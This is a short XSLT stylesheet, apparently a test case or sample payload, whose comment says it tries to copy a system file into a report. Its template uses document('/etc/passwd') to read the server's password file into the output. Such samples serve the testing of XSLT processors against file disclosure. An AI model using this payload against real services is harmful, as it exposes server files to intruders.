<?xml version="1.0" encoding="UTF-8"?>
<!-- Tries to copy a system file into the report through document(). -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template match="/">
    <p><xsl:copy-of select="document('/etc/passwd')"/></p>
  </xsl:template>
</xsl:stylesheet>
